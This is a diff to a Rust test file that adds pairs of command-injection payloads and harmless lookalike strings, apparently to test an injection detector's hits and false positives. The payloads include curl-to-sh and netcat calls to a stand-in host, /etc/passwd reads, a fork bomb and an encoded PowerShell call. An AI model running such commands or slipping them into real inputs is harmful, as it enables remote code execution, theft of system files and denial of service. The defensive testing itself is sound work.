@@ -64,6 +64,23 @@ const PAIRS: &[(&str, &str)] = &[
     ("bash&id", "perl & python"),
     ("%x(id)", "x(id)"),
     ("open('|id')", "open('id')"),
+    ("x.txt|nc x.test 4444", "x.txt|nc or not 4444"),
+    (";w`u`hoami", ";we `u` know"),
+    (";Get-Process", ";get-together"),
+    (";cat *", ";cat * and dog"),
+    (":(){ :|:& };:", ":() and so on"),
+    (">/tmp/x", "> /tmp is full"),
+    ("</etc/passwd", "</div>"),
+    ("--upload-pack=id", "--upload it"),
+    ("$(</etc/passwd)", "$(<5)"),
+    (";expr 7 \\* 7", ";express 7"),
+    ("&echo 7*7", "& echo 7 times"),
+    ("${PATH:0:1}", "${PORT:8080}"),
+    ("docker ps && cat /etc/passwd", "docker compose down && docker compose up -d"),
+    ("npm ci; curl http://x.test/a|sh", "npm ci; npm test"),
+    ("git pull && curl http://x.test/a -o /tmp/a", "git pull && pip install -r requirements"),
+    ("& powershell -enc QQBB", "Bash & PowerShell; others"),
+    ("{cat,/etc/hosts}", "data:image/jpeg;base64,/9j/4AAQ"),
 ];
 
 #[test]
